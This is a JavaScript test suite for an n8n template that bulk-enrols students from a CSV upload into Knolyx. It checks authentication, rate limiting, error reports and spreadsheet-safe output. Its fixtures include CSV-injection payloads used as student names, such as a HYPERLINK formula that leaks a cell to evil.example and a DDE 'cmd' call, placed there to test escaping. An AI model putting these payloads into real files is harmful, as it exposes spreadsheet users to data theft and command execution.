
/**
 * The bulk template (examples/template-bulk-enrolment.json) set up as its note says: the Knolyx
 * credential, a Basic Auth credential on the form, published. A school's CSV file is uploaded over
 * real HTTP to the form's production URL (multipart, as the form's page sends it) and followed to
 * the form's ending page (lib/form-upload.mjs); what happened is read from the sandbox's own state
 * and counters, then compared with the summary and the report the admin got. It shares this
 * file's n8n and sandbox; what the sections above left in the sandbox is its "before".
 */
describe('12. the bulk template: a CSV file of students enrolled without the welcome e-mail, under a rate limit', () => {
	const FILE = 'template-bulk-enrolment.json';
	const KNOLYX_NODE = 'Enrol in the workgroup (no welcome e-mail)';
	const RATE_LIMIT = 20; // requests a second: 30 rows (60 requests) meet it
	let formUrl;
	/** The workgroup the sandbox made for this run (the school year), and its first member. */
	let schoolYear;
	// The Basic Auth credential the note asks for: its own user name and a long random password.
	const FORM_AUTH = {
		user: 'school-admin',
		password: crypto.randomBytes(24).toString('base64url'),
	};
	const basic = ({ user, password }) => ({
		authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
	});

	// Demo seed (sandbox/README.md): workgroups 201-204; Ada (member of 204) and Alan exist.
	const EXISTING = [
		{ firstName: 'Grace', lastName: 'Hopper', email: 'grace@school.example' },
		{ firstName: 'Edsger', lastName: 'Dijkstra', email: 'edsger@school.example' },
		{ firstName: 'Barbara', lastName: 'Liskov', email: 'barbara@school.example' },
	];

	beforeAll(async () => {
		// The school's Knolyx: a workgroup of its own, three students who already have an account,
		// one of them already in that workgroup.
		const seeded = await sb.request('POST', '/sandbox/seed', {
			workgroups: [{ name: 'Class of 2027' }],
			users: EXISTING,
		});
		[schoolYear] = seeded.workgroups;
		await sb.request('POST', '/sandbox/seed', {
			members: [{ workgroupId: schoolYear, email: EXISTING[0].email }],
		});
		// Set up as the note says: a Basic Auth credential on the form, then publish.
		const credential = await rest.request('POST', '/rest/credentials', {
			name: 'Student list upload',
			type: 'httpBasicAuth',
			data: FORM_AUTH,
		});
		let webhookId;
		await editWorkflow(rest, WF.bulk.id, (wf) => {
			const form = wf.nodes.find((n) => n.type === 'n8n-nodes-base.formTrigger');
			form.credentials = { httpBasicAuth: { id: credential.id, name: credential.name } };
			webhookId = form.webhookId;
			return wf;
		});
		await rest.activateWorkflow(WF.bulk.id);
		formUrl = `${n8n.url}/form/${webhookId}`;
	}, 120_000);

	afterAll(async () => {
		await rest.deactivateWorkflow(WF.bulk.id);
	}, 60_000);

	describe('12.1 the file as a user imports it', () => {
		const file = readExample(FILE);
		const byName = new Map(file.nodes.map((n) => [n.name, n]));

		test('a gallery note first (yellow, # Enrol …, How it works, Set up steps, self-hosted n8n, who can reach the URL); the name starts with the verb; tag Knolyx', () => {
			const [note] = file.nodes;
			expect(note.type).toBe('n8n-nodes-base.stickyNote');
			expect(note.parameters.color ?? 1).toBe(1);
			const text = note.parameters.content;
			expect(text.startsWith(`# ${file.name}\n`)).toBe(true);
			expect(file.name).toMatch(/^Enrol /);
			for (const part of ['\n## How it works\n', '\n## Set up steps\n', 'self-hosted n8n'])
				expect(text).toContain(part);
			expect(text).toMatch(/\*\*Who can reach the URL\*\*/);
			// What an admin must know before a run of thousands: no publishing needed, and Google Sheets.
			expect(text).toMatch(/no publishing needed/);
			expect(text).toMatch(/Google Sheets → Get Row\(s\)/);
			expect(file.tags.map((t) => t.name)).toContain('Knolyx');
		});

		test('no credentials, no webhook ID, no path; every node but the trigger fed; types and versions this n8n has', async () => {
			const raw = JSON.parse(JSON.stringify(readExample(FILE)));
			expect(raw.nodes.filter((n) => n.credentials).map((n) => n.name)).toEqual([]);
			const stored = await rest.request('GET', `/rest/workflows/${WF.bulk.id}`);
			expect(stored.nodes.map((n) => n.name).sort()).toEqual([...byName.keys()].sort());
			const types = new Set();
			for (const t of await rest.nodeTypes())
				for (const v of [].concat(t.version)) types.add(`${t.name}@${v}`);
			expect(
				file.nodes.map((n) => `${n.type}@${n.typeVersion}`).filter((t) => !types.has(t)),
			).toEqual([]);
			const fed = new Set(
				Object.values(file.connections).flatMap(({ main }) => main.flat().map((c) => c.node)),
			);
			expect(
				file.nodes
					.filter((n) => n.type !== 'n8n-nodes-base.stickyNote' && !n.type.endsWith('Trigger'))
					.filter((n) => !fed.has(n.name))
					.map((n) => n.name),
			).toEqual([]);
			const form = file.nodes.find((n) => n.type === 'n8n-nodes-base.formTrigger');
			expect(PATH_FROM_WEBHOOK_ID).toContain(form.type);
			expect(form.parameters.path ?? form.parameters.options?.path ?? '').toBe('');
			expect(form.parameters.authentication).toBe('basicAuth');
		});

		test('the Knolyx node: Enrol in Workgroup, Send Welcome Email added and off, the adaptive concurrency default, failures to the error output', () => {
			const knolyx = file.nodes.filter((n) => isKnolyxType(n.type));
			expect(knolyx.map((n) => n.name)).toEqual([KNOLYX_NODE]);
			const [node] = knolyx;
			expect([node.parameters.resource, node.parameters.operation]).toEqual(['user', 'enrol']);
			expect(node.parameters.options).toEqual({ sendWelcomeEmail: false });
			expect(node.parameters.requestOptions).toBeUndefined();
			expect(node.onError).toBe('continueErrorOutput');
			const [success, failure] = file.connections[KNOLYX_NODE].main;
			expect([success.length, failure.length]).toEqual([1, 1]);
		});
	});

	describe('12.2 who can reach the form', () => {
		test.each([
			['no user and password', {}],
			['a wrong password', basic({ user: FORM_AUTH.user, password: 'wrong' })],
		])('%s: 401 and no execution', async (_label, headers) => {
			const got = await uploadToForm(formUrl, {
				file: { name: 'students.csv', content: 'email,first_name,last_name,workgroup_id\n' },
				headers,
			});
			expect(got.status).toBe(401);
			const list = await rest.request(
				'GET',
				`/rest/executions?filter=${encodeURIComponent(JSON.stringify({ workflowId: WF.bulk.id }))}`,
			);
			expect(list.results ?? []).toEqual([]);
		});
	});

	// 12.3 and 12.4

	const HEADER = ['email', 'first_name', 'last_name', 'workgroup_id'];
	/** First and last names that start as a formula does: =, +, -, @ and a tab. */
	const FORMULA_NAMES = [
		['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,2)'],
		['-2+3', "@cmd|' /C calc'!A0"],
		['\tTabbed', "'=kept as text by a spreadsheet"],
	];
	/**
	 * A cell as the template reads it: a ' before a formula's first character is a spreadsheet's
	 * mark for text (the report's, or a spreadsheet's own export), and is taken off.
	 */
	const asRead = (value) => String(value ?? '').replace(/^'(?='*[=+\-@\t\r])/, '');
	/** A report cell as the template writes it: one that starts as a formula gets a leading '. */
	const asText = (value) => String(value ?? '').replace(/^(?='*[=+\-@\t\r])/, "'");
	/** A file's cell in the report: read, then written as text. */
	const cellOf = (value) => asText(asRead(value));
	/** A file's name as Knolyx keeps it: read, without the spaces and tabs around it. */
	const nameOf = (value) => asRead(value).trim();
	/** Whether a spreadsheet would run the cell (OWASP's list of first characters). */
	const runsInASpreadsheet = (cell) => /^[=+\-@\t\r]/.test(cell);
	const student = (n, workgroup) => ({
		email: `student${n}@school.example`,
		first_name: `First${n}`,
		last_name: n === 7 ? 'Smith, Jr.' : `Last${n}`, // a cell the CSV must quote
		workgroup_id: workgroup,
	});

	/**
	 * The school's file: rows in the file's order (row = index + 2: the header is row 1), each with
	 * what must come of it. `reason` (bad rows) must match what the summary says.
	 */
	function schoolFile() {
		const good = [];
		for (let n = 1; n <= 16; n++) good.push(student(n, [201, 202, 203, schoolYear][n % 4]));
		good.push(student(1, 201)); // the same student in a second workgroup
		good.push({
			email: 'ada@example.com',
			first_name: 'Ada',
			last_name: 'Lovelace',
			workgroup_id: 204,
		}); // already a member
		good.push({
			email: 'ALAN@example.com',
			first_name: 'Alan',
			last_name: 'Turing',
			workgroup_id: 201,
		}); // Knolyx matches e-mails in any case
		// Names a spreadsheet would run as formulas (OWASP, CSV injection): Knolyx keeps them as they
		// are; the report writes them so that they stay text, and reads them back as they were.
		good.push(
			...FORMULA_NAMES.map(([first_name, last_name], i) => ({
				email: `formula${i}@school.example`,
				first_name,
				last_name,
				workgroup_id: [201, 202, 203][i % 3],
			})),
		);
		good.push(
			...EXISTING.map((u, i) => ({
				email: u.email,
				first_name: u.firstName,
				last_name: u.lastName,
				workgroup_id: [schoolYear, 202, 203][i],
			})),
		);
		const bad = [
			[
				{ email: '', first_name: 'No', last_name: 'Email', workgroup_id: 201 },
				/^Email: is required and was empty$/,
			],
			[
				{ email: 'not-an-email', first_name: 'Bad', last_name: 'Address', workgroup_id: 201 },
				/^Email: .*"not-an-email".*e-mail address/,
			],
			[
				{
					email: 'no.group@school.example',
					first_name: 'No',
					last_name: 'Group',
					workgroup_id: '',
				},
				/^Workgroup: is required and was empty$/,
			],
			[
				{
					email: 'letters@school.example',
					first_name: 'Letters',
					last_name: 'Group',
					workgroup_id: 'abc',
				},
				/^Workgroup: "abc" is not a numeric ID$/,
			],
			[
				{
					email: 'no.name@school.example',
					first_name: '',
					last_name: 'Nameless',
					workgroup_id: 202,
				},
				/^First Name: is required and was empty$/,
			],
			[
				{
					email: 'lost.group@school.example',
					first_name: 'Lost',
					last_name: 'Group',
					workgroup_id: 999,
				},
				/^Knolyx: Entity not found \(workgroup 999 .*\) \[404\]$/,
			],
			[
				// A formula for an e-mail: refused, and written into the report as text.
				{ email: '=1+1', first_name: 'Formula', last_name: 'Email', workgroup_id: 201 },
				/^Email: .*"=1\+1".*e-mail address/,
			],
		];
		// Bad rows spread through the file, not at its end.
		const rows = [...good.map((r) => ({ ...r, good: true }))];
		bad.forEach(([r, reason], i) => rows.splice(3 + i * 4, 0, { ...r, good: false, reason }));
		return rows.map((r, i) => ({ ...r, row: i + 2 }));
	}

	const csvOf = (rows) => toCsv([HEADER, ...rows.map((r) => HEADER.map((h) => r[h]))]);
	const lower = (email) => email.toLowerCase();
	/** The sandbox's write counters by key, e-mails in lower case (Knolyx matches them in any case). */
	const writesOf = (stats) => {
		const writes = {};
		for (const [key, count] of Object.entries(stats.writes))
			writes[lower(key)] = (writes[lower(key)] ?? 0) + count;
		return writes;
	};

	/** Every workgroup's members by id: { id: [email, ...] } (sorted), from a sandbox state dump. */
	const membersByGroup = (state) =>
		Object.fromEntries(
			state.workgroups.map((w) => [w.id, w.members.map((m) => lower(m.email)).sort()]),
		);

	describe('12.3 a school file of 30 rows, under a rate limit of 20 requests a second', () => {
		let rows;
		let before;
		let got;
		let after;
		let stats;
		let report;

		beforeAll(async () => {
			rows = schoolFile();
			before = await sb.state();
			await sb.setFaults({ rateLimitPerSecond: RATE_LIMIT });
			await sb.request('POST', '/sandbox/stats/reset');
			got = await uploadToForm(formUrl, {
				file: { name: 'students.csv', content: csvOf(rows) },
				headers: basic(FORM_AUTH),
			});
			stats = await sb.stats();
			await sb.resetFaults();
			after = await sb.state();
			report = parseCsv(got.files[0]?.text ?? '');
		}, 300_000);

		test('the upload is answered at once; the ending page follows; the execution succeeds, once', async () => {
			expect(got.status).toBe(200);
			expect(got.formWaitingUrl).toMatch(/\/form-waiting\/\d+/);
			expect(got.executionState).toBe('form-waiting');
			expect(got.finishStatus).toBe(200);
			const [ex] = await waitForExecutions(rest, WF.bulk.id, 1, { timeoutMs: 60_000 });
			expect([ex.id, ex.status]).toEqual([got.executionId, 'success']);
		});

		test("every good row: the user exists with the names of the file and is a member of the row's workgroup, written once; no one else was added anywhere", () => {
			const expected = membersByGroup(before);
			for (const r of rows.filter((x) => x.good)) {
				const user = after.users.find((u) => lower(u.email) === lower(r.email));
				// Knolyx keeps a name without the spaces and tabs around it.
				expect({ row: r.row, first: user?.firstName, last: user?.lastName }).toEqual({
					row: r.row,
					first: nameOf(r.first_name),
					last: nameOf(r.last_name),
				});
				expected[r.workgroup_id] = [
					...new Set([...expected[r.workgroup_id], lower(r.email)]),
				].sort();
				// The membership reached the sandbox's state once (a retry after a 429 is refused before it).
				expect({
					row: r.row,
					writes: writesOf(stats)[`member:${r.workgroup_id}:${lower(r.email)}`],
				}).toEqual({
					row: r.row,
					writes: 1,
				});
			}
			expect(membersByGroup(after)).toEqual(expected);
		});

		test('nothing written twice: one provisioning per row that passed the checks, the only repeat the student who is in the file twice', () => {
			const sent = rows.filter((r) => r.good || /Knolyx/.test(String(r.reason)));
			const perEmail = {};
			for (const r of sent) perEmail[lower(r.email)] = (perEmail[lower(r.email)] ?? 0) + 1;
			expect(
				Object.fromEntries(
					Object.entries(writesOf(stats))
						.filter(([k]) => k.startsWith('provision:'))
						.map(([k, v]) => [k.slice('provision:'.length), v]),
				),
			).toEqual(perEmail);
			expect(stats.duplicateWrites).toBe(1);
		});

		test('the rate limit was met (429 answers) and no row was lost to it', () => {
			expect(stats.faultsInjected.rateLimit).toBeGreaterThan(0);
			const lost = rows.filter(
				(r) =>
					!report.some((line) => Number(line.row) === r.row) ||
					(r.good && !membersByGroup(after)[r.workgroup_id]?.includes(lower(r.email))),
			);
			expect(lost).toEqual([]);
		});

		test('no welcome e-mail: the sandbox sent none (it sends one to every new user unless disableWelcomeEmail is true)', () => {
			const created = after.users.filter((u) => !before.users.some((b) => b.id === u.id));
			expect(created.length).toBeGreaterThan(10);
			expect(after.onboardingEmails).toEqual(before.onboardingEmails);
		});

		test('the bad rows: nobody added; only the row Knolyx refused (unknown workgroup) left an account, as the note says', () => {
			const users = new Set(after.users.map((u) => lower(u.email)));
			const members = Object.values(membersByGroup(after)).flat();
			for (const r of rows.filter((x) => !x.good)) {
				expect({ row: r.row, member: members.includes(lower(r.email)) }).toEqual({
					row: r.row,
					member: false,
				});
				const refusedByKnolyx = /Knolyx/.test(String(r.reason));
				expect({ row: r.row, account: r.email !== '' && users.has(lower(r.email)) }).toEqual({
					row: r.row,
					account: refusedByKnolyx,
				});
			}
		});

		test('the ending page: the counts and every failed row with its row number, e-mail and reason', () => {
			const goodRows = rows.filter((r) => r.good);
			const known = new Set(before.users.map((u) => lower(u.email)));
			const created = new Set(goodRows.map((r) => lower(r.email)).filter((e) => !known.has(e)))
				.size;
			const bad = rows.filter((r) => !r.good);
			expect(got.title).toBe(`${bad.length} of ${rows.length} rows failed`);
			const lines = got.message.split('\n');
			expect(lines.slice(0, 3)).toEqual([
				`Created: ${created}`,
				`Already existed (enrolled all the same): ${goodRows.length - created}`,
				`Failed: ${bad.length}`,
			]);
			const failures = lines.filter((l) => l.startsWith('Row '));
			expect(failures).toHaveLength(bad.length);
			for (const r of bad) {
				const line = failures.find((l) =>
					l.startsWith(`Row ${r.row}${r.email ? ` (${cellOf(r.email)})` : ''}: `),
				);
				expect({ row: r.row, line: Boolean(line) }).toEqual({ row: r.row, line: true });
				expect(line.slice(line.indexOf(': ') + 2)).toMatch(r.reason);
			}
		});

		test('the report file: every row once with its result, failed rows first, each reason as on the page', () => {
			expect(got.files.map((f) => [f.fileName, f.type])).toEqual([
				['knolyx-enrolment-report.csv', 'text/csv'],
			]);
			expect(report.map((l) => Number(l.row)).sort((a, b) => a - b)).toEqual(
				rows.map((r) => r.row),
			);
			const firstGood = report.findIndex((l) => l.result !== 'failed');
			expect(report.slice(firstGood).every((l) => l.result !== 'failed')).toBe(true);
			for (const r of rows) {
				const line = report.find((l) => Number(l.row) === r.row);
				expect({
					row: r.row,
					email: line.email,
					workgroup: line.workgroup_id,
					first: line.first_name,
					last: line.last_name,
				}).toEqual({
					row: r.row,
					email: cellOf(r.email),
					workgroup: String(r.workgroup_id),
					first: cellOf(r.first_name),
					last: cellOf(r.last_name),
				});
				if (r.good) expect(['created', 'already existed']).toContain(line.result);
				else {
					expect(line.result).toBe('failed');
					expect(line.reason).toMatch(r.reason);
				}
			}
			// Of a student in the file twice, one row created the account, the other found it.
			const twice = report
				.filter((l) => l.email === 'student1@school.example')
				.map((l) => l.result);
			expect(twice.sort()).toEqual(['already existed', 'created']);
		});

		test('no cell of the report runs in a spreadsheet: each formula of the file is there as text, behind a leading quote', () => {
			const cells = report.flatMap((l) => Object.values(l));
			expect(cells.filter(runsInASpreadsheet)).toEqual([]);
			const formulas = rows.filter((r) => r.email.startsWith('formula'));
			expect(formulas).toHaveLength(FORMULA_NAMES.length);
			for (const r of formulas) {
				const line = report.find((l) => Number(l.row) === r.row);
				expect([line.first_name, line.last_name]).toEqual([
					`'${asRead(r.first_name)}`,
					`'${asRead(r.last_name)}`,
				]);
			}
			expect(report.find((l) => l.email === "'=1+1")?.result).toBe('failed');
		});

		test("the workflow's own count (Count the results) is the page's", async () => {
			const ex = await execution(rest, got.executionId);
			const [counts] = nodeOutput(ex, 'Count the results');
			const lines = got.message.split('\n');
			expect([
				`Created: ${counts.created}`,
				`Already existed (enrolled all the same): ${counts.alreadyExisted}`,
				`Failed: ${counts.failed}`,
			]).toEqual(lines.slice(0, 3));
		});

		describe('12.4 the report uploaded again, its failed rows fixed', () => {
			let again;
			let afterAgain;
			let statsAgain;
			const FIXES = {
				'': { email: 'has.email.now@school.example' },
				'not-an-email': { email: 'bad.address@school.example' },
				'no.group@school.example': { workgroup_id: '203' },
				'letters@school.example': { workgroup_id: '203' },
				'no.name@school.example': { first_name: 'Named' },
				'lost.group@school.example': { workgroup_id: '201' },
				"'=1+1": { email: 'formula.email@school.example' },
			};

			beforeAll(async () => {
				const fixed = report.map((l) => (l.result === 'failed' ? { ...l, ...FIXES[l.email] } : l));
				await sb.request('POST', '/sandbox/stats/reset');
				again = await uploadToForm(formUrl, {
					file: {
						name: 'knolyx-enrolment-report.csv',
						content: toCsv([Object.keys(fixed[0]), ...fixed.map((l) => Object.values(l))]),
					},
					headers: basic(FORM_AUTH),
				});
				statsAgain = await sb.stats();
				afterAgain = await sb.state();
				again.fixed = fixed;
			}, 300_000);

			test('every row enrolled: the fixed ones as new (lost.group as existing: Knolyx made the account the first time); nothing failed; no welcome e-mail', () => {
				expect(again.title).toBe('Every student is enrolled');
				const fixedNew = Object.values(FIXES).length - 1;
				expect(again.message.split('\n').slice(0, 3)).toEqual([
					`Created: ${fixedNew}`,
					`Already existed (enrolled all the same): ${rows.length - fixedNew}`,
					'Failed: 0',
				]);
				const members = membersByGroup(afterAgain);
				for (const l of again.fixed)
					expect({ row: l.row, member: members[l.workgroup_id]?.includes(lower(l.email)) }).toEqual(
						{
							row: l.row,
							member: true,
						},
					);
				expect(afterAgain.onboardingEmails).toEqual(before.onboardingEmails);
			});

			test('the report read back as it was written: the formula names are in Knolyx as the first file had them, not one quote added', () => {
				const formulas = rows.filter((r) => r.email.startsWith('formula'));
				for (const r of formulas) {
					const user = afterAgain.users.find((u) => lower(u.email) === lower(r.email));
					expect({ row: r.row, first: user?.firstName, last: user?.lastName }).toEqual({
						row: r.row,
						first: nameOf(r.first_name),
						last: nameOf(r.last_name),
					});
				}
			});

			test('each row written once: one membership write per row, no write beyond them', () => {
				const memberWrites = Object.entries(writesOf(statsAgain)).filter(([k]) =>
					k.startsWith('member:'),
				);
				expect(memberWrites.map(([, v]) => v)).toEqual(memberWrites.map(() => 1));
				expect(memberWrites).toHaveLength(again.fixed.length);
			});
		});
	});

	describe("12.5 the admin's own browser: 2 000 rows through the form page in Chromium", () => {
		const N = 2000;
		let browser;
		let page;
		let download;
		let heading;
		let after;
		let emailsBefore;

		beforeAll(async () => {
			emailsBefore = (await sb.state()).onboardingEmails;
			({ page, ...browser } = await launchBrowser());
			// The Basic Auth the form asks for, on every request of the page (its polls included).
			await browser.context.setExtraHTTPHeaders(basic(FORM_AUTH));
			const rows = Array.from({ length: N }, (_, i) => [
				`browser${i}@school.example`,
				'Browser',
				`Student ${i}`,
				[201, 202, 203][i % 3],
			]);
			await page.goto(formUrl);
			await page.locator('input[type=file]').setInputFiles({
				name: 'students.csv',
				mimeType: 'text/csv',
				buffer: Buffer.from(toCsv([HEADER, ...rows])),
			});
			const downloaded = page.waitForEvent('download', { timeout: 600_000 });
			await page.locator('#submit-btn').click();
			download = await downloaded;
			heading = await page.locator('h1').first().textContent();
			await screenshot(page, `bulk-template-ending-${N8N_VERSION}`);
			after = await sb.state();
		}, 660_000);

		afterAll(async () => {
			await browser?.close();
		});

		test('the page ends on the summary and downloads the report of every row; the sandbox has every student in their workgroup, and sent no welcome e-mail', async () => {
			expect(heading?.trim()).toBe('Every student is enrolled');
			expect(download.suggestedFilename()).toBe('knolyx-enrolment-report.csv');
			const report = parseCsv(fs.readFileSync(await download.path(), 'utf8'));
			expect(report).toHaveLength(N);
			expect(report.filter((l) => l.result === 'created')).toHaveLength(N);
			const members = membersByGroup(after);
			const missing = report.filter((l) => !members[l.workgroup_id]?.includes(l.email));
			expect(missing).toEqual([]);
			expect(after.onboardingEmails).toEqual(emailsBefore);
		});
	});
});
